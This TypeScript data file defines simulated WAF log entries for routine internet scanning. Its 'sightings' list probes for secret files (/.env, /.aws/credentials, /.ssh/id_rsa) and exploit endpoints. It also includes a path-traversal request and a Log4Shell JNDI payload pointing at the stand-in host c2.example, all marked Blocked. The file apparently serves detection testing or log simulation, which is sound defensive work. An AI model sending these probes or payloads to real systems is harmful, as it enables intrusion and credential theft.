import { DETAIL, HOSTING, type Sighting, type Story } from '../story.ts';

const probe = (path: string, match: string = path): Sighting => ({
  method: 'GET',
  path,
  ruleId: '930130',
  ruleGroup: '',
  message: 'Restricted File Access Attempt',
  severity: '',
  status: 'Blocked',
  trigger: ['PMF', match],
});

const scanner = (path: string): Sighting => ({
  method: 'HEAD',
  path,
  ruleId: '913100',
  ruleGroup: '',
  message: 'Found User-Agent associated with security scanner',
  severity: 'CRITICAL',
  status: 'Blocked',
  trigger: ['PMF', 'zgrab'],
});

/** The background noise of the internet: everybody's doors tried, all day. */
export const scanners: Story = {
  name: 'scanners',
  origins: HOSTING,
  subnets: 6,
  agents: [
    'Python/3.10 aiohttp/3.12.15',
    'python-requests/2.32.4',
    'Mozilla/5.0 zgrab/0.x',
    'Go-http-client/1.1',
    'curl/8.15.0',
    '-',
    'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)',
  ],
  details: ['.bak', '.old', '~', '.save', '', '.1', '.swp', '.orig'],
  sightings: [
    probe('/.env'),
    probe('/.git/config'),
    probe(`/.env${DETAIL}`, '/.env'),
    probe('/wp-login.php'),
    probe('/wp-admin/setup-config.php?step=1', '/wp-admin/'),
    probe('/.aws/credentials'),
    probe(`/backup.sql${DETAIL}`, '/backup.sql'),
    probe('/api/.env.production', '/.env'),
    scanner('/'),
    probe('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'eval-stdin.php'),
    probe('/server-status'),
    scanner('/actuator/health'),
    probe('/.ssh/id_rsa'),
    probe('/cgi-bin/luci/;stok=/locale?form=country', '/cgi-bin/luci'),
    probe('/.DS_Store'),
    probe('/owa/auth/logon.aspx'),
    {
      method: 'GET',
      path: '/index.php?lang=../../../../../../../../tmp/index1',
      ruleId: '930100',
      ruleGroup: '',
      message: 'Path Traversal Attack (/../) or (/.../)',
      severity: 'CRITICAL',
      status: 'Blocked',
      trigger: ['RX', '/../'],
    },
    {
      method: 'GET',
      path: '/?x=%24%7Bjndi:ldap://c2.example/a%7D',
      ruleId: '944150',
      ruleGroup: '',
      message: 'Potential Remote Command Execution: Log4j / Log4shell',
      severity: 'CRITICAL',
      status: 'Blocked',
      trigger: ['RX', '${jndi:ldap://'],
    },
  ],
  weight: () => 5,
};
